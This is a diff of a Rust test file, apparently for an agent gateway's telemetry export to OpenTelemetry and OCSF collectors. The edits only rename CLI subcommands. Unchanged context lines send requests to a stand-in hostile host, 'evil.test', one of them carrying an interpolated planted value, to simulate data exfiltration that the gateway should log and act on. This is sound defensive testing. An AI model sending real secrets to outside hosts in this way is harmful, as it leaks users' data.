@@ -170,7 +170,7 @@ fn records_arrive_as_logs_and_spans_that_fit_opentelemetrys_schema() {
         .trim_matches('\'')
         .to_owned();
     ask(&program, &format!("http://evil.test/{phantom}"), "");
-    program.json(&["pause", "agent-1"]);
+    program.json(&["session", "pause", "agent-1"]);
     until("three spans and an act", || {
         let is_act = |log: &Value| log["eventName"] == "gateway.act";
         collector.spans().len() >= 3 && collector.logs().iter().any(is_act)
@@ -228,7 +228,7 @@ fn events_arrive_and_are_printed_as_ocsf() {
     let program = Program::start(&further);
     ask(&program, "http://stream.test/", "");
     ask(&program, "http://evil.test/a", "");
-    program.json(&["pause", "agent-1"]);
+    program.json(&["session", "pause", "agent-1"]);
     let events = || -> Vec<Value> {
         let lines = collector
             .taken()
@@ -381,7 +381,7 @@ fn a_collector_that_hangs_does_not_hold_up_the_end_and_gets_the_rest_after_the_n
     assert!(said.contains("not exported before the end"), "{said}");
     // The log has everything in any case, and the next start goes on where this one came to.
     let taken = collector.spans().len();
-    let (code, said) = program.gateway(&["audit", "verify", "audit/log.jsonl"]);
+    let (code, said) = program.gateway(&["log", "verify", "audit/log.jsonl"]);
     assert_eq!(code, 0, "{said}");
     collector.hangs.store(false, Ordering::SeqCst);
     program.child = crate::program::spawn(program.folder.path());
